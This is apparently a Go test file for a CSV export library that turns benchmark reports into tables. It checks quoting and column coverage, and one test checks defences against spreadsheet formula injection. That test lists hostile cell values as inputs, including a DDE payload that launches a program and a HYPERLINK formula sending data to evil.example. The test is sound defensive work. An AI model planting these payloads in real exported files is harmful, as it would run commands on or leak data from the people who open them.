package tables

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"math"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"plumbline/reports"
)

// everyCell has a column of each kind.
type everyCell struct {
	Text  string    `parquet:"text,dict"`
	Yes   bool      `parquet:"yes"`
	N     int64     `parquet:"n_ns"`
	U     uint64    `parquet:"u"`
	F     float64   `parquet:"f_ms"`
	At    time.Time `parquet:"at_utc,timestamp(microsecond)"`
	Maybe *int64    `parquet:"maybe,optional"`
}

func write[Row any](t *testing.T, rows ...Row) string {
	t.Helper()
	var buf bytes.Buffer
	w, err := NewCSV[Row](&buf)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

func TestCSVByRFC4180(t *testing.T) {
	n := int64(-7)
	got := write(t, everyCell{"a, \"b\"\nc", true, math.MinInt64, math.MaxUint64, 0.1, time.Date(2026, 11, 26, 9, 0, 0, 5e8, time.FixedZone("x", 3600)), &n},
		everyCell{F: math.NaN()}, everyCell{F: math.Inf(1)}, everyCell{F: math.Inf(-1)})
	want := "text,yes,n_ns,u,f_ms,at_utc,maybe\r\n" +
		"\"a, \"\"b\"\" c\",true,-9223372036854775808,18446744073709551615,0.1,2026-11-26T08:00:00.5Z,-7\r\n" +
		",false,0,0,,,\r\n,false,0,0,inf,,\r\n,false,0,0,-inf,,\r\n"
	if got != want {
		t.Errorf("got\n%q, want\n%q", got, want)
	}
}

// TestCSVCalculatesNothing: no text makes a spreadsheet calculate, call a program
// or fetch a page, and what a person sees is what is there.
func TestCSVCalculatesNothing(t *testing.T) {
	for _, text := range []string{
		`=1+1`, `+1`, `-1`, `@SUM(A1)`, `=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example?x="&A1,"x")`, "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\u3000=1",
		"＝1+1", "－1", "＋1", "＠x", "\u202e=1", "\ufeff=1", "\x00=1", "\x1b[31m=1", "a,\"=1\"", "\",=1,\"", ";=1", "x\n=1", "\xff=1",
		"a;=1", "a;b; =1;-1", "a;\u3000＝1", `a;=cmd|' /C calc'!A0`, "a;\x00=1", ";;@x",
	} {
		out := write(t, everyCell{Text: text})
		if !utf8.ValidString(out) {
			t.Errorf("%q: no UTF-8: %q", text, out)
		}
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != 7 {
			t.Fatalf("%q: %v, %v", text, rows, err)
		}
		cell := rows[1][0]
		if strings.ContainsFunc(cell, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) }) {
			t.Errorf("%q: the cell %q has hidden characters", text, cell)
		}
		if bare := strings.TrimLeft(cell, " \u00a0\u3000"); bare != "" && strings.ContainsRune(formula, []rune(bare)[0]) {
			t.Errorf("%q: the cell %q is a formula", text, cell)
		}
		for _, part := range strings.Split(out, ";") { // as where the semicolon separates cells
			if bare := strings.TrimLeft(part, " \u00a0\u3000"); bare != "" && strings.ContainsRune(formula, []rune(bare)[0]) {
				t.Errorf("%q: split at semicolons %q is a formula", text, part)
			}
		}
	}
	for _, text := range []string{"", "plain", "1 = 1", "a-b", "'=1", "→ 5 ms", "a; b", "a;", "1;2"} {
		if got := inert(text); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
}

func TestCSVRefusesOtherColumns(t *testing.T) {
	type odd struct {
		List []string `parquet:"list"`
	}
	w, err := NewCSV[odd](&bytes.Buffer{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(odd{}); err == nil {
		t.Error("a list became a cell")
	}
}

func sample() *reports.Run {
	start := time.Date(2026, 11, 26, 9, 0, 0, 0, time.UTC)
	m := &reports.Measurement{Name: "t0i→t4", Unit: "ms", Estimate: 4, Lower: reports.Float(math.NaN()), Upper: 5, Limit: 100, N: 9, NEff: 8}
	void := reports.Result{Requirement: "LAT-02", Scenario: "steady", Attempt: 1, Verdict: reports.Inconclusive, Reason: reports.ReasonRig, Sentence: "x", Started: start}
	good := reports.Result{Requirement: "LAT-02", Scenario: "steady", Attempt: 2, Verdict: reports.Pass, Sentence: "y", Started: start, Measurement: m,
		Findings: []reports.Finding{{Kind: "remark", Subject: "d", Detail: "=1", Seq: 3, At: time.Second, Context: []string{"a", "b"}}}}
	return &reports.Run{ID: "r1", Requirements: []reports.Requirement{{ID: "LAT-02", Title: "p99", Text: "It shall.", Class: reports.Mandatory}},
		Results: []reports.Result{void, good}, Devices: []reports.Device{{ID: "d", Mode: reports.ModeSim}},
		Latencies: []reports.Distribution{{Scenario: "steady", Name: "n", N: 9, Buckets: []reports.Bucket{{Low: 1, High: 2, Count: 9}}, Percentiles: []reports.Percentile{{Q: 0.5, Value: 1.5}}}},
		Timelines: []reports.Timeline{{Scenario: "steady", Name: "n", Slot: time.Second, Points: []reports.Point{{Count: 9, P50: 1}}, Faults: []reports.FaultWindow{{Name: "kill", Onset: 1, End: 2}}}},
		Hops:      []reports.Hop{{Name: "h", P50: 1}}, Integrity: []reports.Integrity{{Device: "d", Scenario: "steady", Sent: 9, Phantom: 1}},
		Rasters: []reports.Raster{{Scenario: "steady", Slot: time.Second, Rows: []reports.RasterRow{{Device: "d", Cells: reports.Fates}}}},
		Recoveries: []reports.Recovery{{Scenario: "churn", Returns: []reports.Return{{Viewer: "v", Fault: "cut", Lost: 5, Back: 1, Subscribed: reports.Float(math.NaN()),
			Fresh: reports.Float(math.NaN()), Reason: "closed"}}}},
		Resources: []reports.Resources{{Name: "steady-1", Scenario: "steady", Samples: []reports.Usage{{At: 7, CPU: 8, RSS: 9, Files: -1, Threads: 3}},
			Faults: []reports.FaultWindow{{Name: "kill", Onset: 1, End: 2}}}},
		Comparisons: []reports.Comparison{{Scenario: "approaches", Approaches: []reports.Approach{{ID: "ws", AgeP50: 50}}, Claims: []reports.Claim{{ID: "cpu", Standing: reports.Holds}}}}}
}

// TestEveryFieldHasAColumn: what the summary says of these parts is in a table.
func TestEveryFieldHasAColumn(t *testing.T) {
	run := sample()
	for name, text := range map[string]string{
		"requirements": write(t, Requirements(run)...), "results": write(t, Results(run)...), "measurements": write(t, Measurements(run)...),
		"findings": write(t, Findings(run)...), "latencies": write(t, Latencies(run)...), "buckets": write(t, Buckets(run)...),
		"timelines": write(t, Points(run)...), "faults": write(t, Faults(run)...), "hops": write(t, Hops(run)...),
		"integrity": write(t, IntegrityOf(run)...), "devices": write(t, Devices(run)...), "rasters": write(t, Cells(run)...),
		"returns": write(t, Returns(run)...), "resources": write(t, Usages(run)...), "resource_faults": write(t, UsageFaults(run)...),
		"approaches": write(t, Approaches(run)...), "claims": write(t, Claims(run)...),
	} {
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil || len(rows) < 2 || rows[0][0] != "run" || rows[1][0] != "r1" {
			t.Errorf("%s: %v, %v", name, rows, err)
		}
	}
	for table, fields := range map[reflect.Type]struct {
		of   reflect.Type
		less int // fields that are other tables, or hold for all rows
	}{
		reflect.TypeFor[Integrity]():   {reflect.TypeFor[reports.Integrity](), 0},
		reflect.TypeFor[Device]():      {reflect.TypeFor[reports.Device](), 0},
		reflect.TypeFor[Hop]():         {reflect.TypeFor[reports.Hop](), 0},
		reflect.TypeFor[Return]():      {reflect.TypeFor[reports.Return](), -1}, // the recovery's scenario
		reflect.TypeFor[Usage]():       {reflect.TypeFor[reports.Usage](), -2},  // bench and scenario
		reflect.TypeFor[UsageFault]():  {reflect.TypeFor[reports.FaultWindow](), -2},
		reflect.TypeFor[Claim]():       {reflect.TypeFor[reports.Claim](), -1},              // the scenario
		reflect.TypeFor[Approach]():    {reflect.TypeFor[reports.Approach](), -1 - 5 - 2*3}, // likewise, and what its layers and processor times have
		reflect.TypeFor[Measurement](): {reflect.TypeFor[reports.Measurement](), 1 - 3},     // runs; the result's requirement, scenario, attempt
	} {
		if got, want := table.NumField(), fields.of.NumField()+1-fields.less; got != want {
			t.Errorf("%s has %d columns, want %d: all fields of %s and the run", table, got, want, fields.of)
		}
	}
	if got := fmt.Sprint(Results(run)[0].Superseded, Results(run)[1].Superseded); got != "true false" {
		t.Errorf("superseded: %s", got)
	}
	cells := Cells(run)
	if len(cells) != len(reports.Fates)-1 { // the first letter says that nothing was due
		t.Errorf("%d cells of %q", len(cells), reports.Fates)
	}
	for i, c := range cells {
		if c.At != int64(i+1)*1e9 || c.Slot != 1e9 || c.Fate == "" {
			t.Errorf("cell %d is %+v", i, c)
		}
	}
	if last := cells[len(cells)-1]; last.Fate != "lost" || last.Device != "d" {
		t.Errorf("the last cell is %+v", last)
	}
	if r := Returns(run)[0]; r.Lost != 5 || r.Back != 1 || !math.IsNaN(r.Fresh) || r.Viewer != "v" || r.Fault != "cut" || r.Reason != "closed" {
		t.Errorf("return %+v", r)
	}
	if u := Usages(run)[0]; u != (Usage{"r1", "steady-1", "steady", 7, 8, 9, -1, 3}) {
		t.Errorf("usage %+v", u)
	}
	if f := Findings(run)[0]; f.Context != "a | b" || f.At != 1e9 || f.Attempt != 2 {
		t.Errorf("finding %+v", f)
	}
}
